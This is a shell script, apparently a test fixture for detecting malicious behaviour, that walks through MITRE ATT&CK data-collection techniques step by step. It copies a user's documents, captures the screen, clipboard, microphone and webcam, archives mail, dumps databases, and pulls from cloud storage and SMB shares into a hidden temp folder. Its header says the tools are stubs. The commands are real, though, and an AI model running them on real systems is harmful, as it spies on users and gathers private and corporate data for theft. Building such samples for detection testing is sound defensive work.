#!/bin/sh
# MALICIOUS-behaviour corpus sample (harmless): collection. The documents are fakes made when the
# image was built, the capture and client tools are busybox stubs (they print "applet not found"
# and exit 127), no camera, microphone or display exists, and nothing reaches a network.
mkdir -p /tmp/.c
# T1005 Data from Local System: a user's folders and office files
/bin/cp -r /home/alice/Documents /tmp/.c/
/bin/cp /home/alice/Desktop/contract.docx /srv/share/budget-2025.xlsx /tmp/.c/
# T1119 Automated Collection: sweeps by extension
/bin/find /home /srv -name '*.xlsx' -exec cp {} /tmp/.c/ \;
/bin/sh -c "find /home -name '*.pdf' -o -name '*.docx' | xargs -I{} cp {} /tmp/.c/"
# T1113 Screen Capture
/usr/bin/import -window root /tmp/.c/screen.png 2>/dev/null
/usr/bin/xwd -root -silent -out /tmp/.c/screen.xwd 2>/dev/null
/usr/bin/ffmpeg -f x11grab -i :0.0 -frames:v 1 /tmp/.c/screen.jpg 2>/dev/null
# T1115 Clipboard Data
/usr/bin/xclip -selection clipboard -o > /tmp/.c/clip.txt 2>/dev/null
/usr/bin/xsel -bo >> /tmp/.c/clip.txt 2>/dev/null
/usr/bin/wl-paste >> /tmp/.c/clip.txt 2>/dev/null
# T1123 Audio Capture
/usr/bin/arecord -f cd -d 5 /tmp/.c/mic.wav 2>/dev/null
/bin/cat /dev/snd/pcmC0D0c > /dev/null 2>&1
# T1125 Video Capture
/usr/bin/fswebcam -r 640x480 --no-banner /tmp/.c/cam.jpg 2>/dev/null
/bin/cat /dev/video0 > /dev/null 2>&1
# T1114 Email Collection
/bin/cat /var/mail/alice > /dev/null
/bin/tar -czf /tmp/.c/mail.tgz /home/alice/Maildir
# T1213.006 Databases
/usr/bin/pg_dump -h 127.0.0.1 -U app app > /tmp/.c/app.sql 2>/dev/null
/usr/bin/mysqldump --all-databases -h 127.0.0.1 > /tmp/.c/all.sql 2>/dev/null
/usr/bin/redis-cli -h 127.0.0.1 --rdb /tmp/.c/dump.rdb 2>/dev/null
/usr/bin/sqlite3 /srv/app/app.db .dump > /tmp/.c/app-db.sql 2>/dev/null
# T1530 Data from Cloud Storage
/usr/bin/aws s3 cp --recursive s3://corp-backups-example-test/db/ /tmp/.c/s3/ 2>/dev/null
/usr/bin/rclone copy corpdrive:finance /tmp/.c/drive 2>/dev/null
# T1039 Data from Network Shared Drive (the mount is refused: no capabilities)
/bin/mount -t cifs //198.51.100.9/finance /mnt/share -o username=svc,password=x 2>/dev/null
/usr/bin/smbclient //198.51.100.9/hr -N -c 'prompt OFF; mget *' 2>/dev/null
/bin/rm -rf /tmp/.c
echo "[corpus] collection done"
exit 0
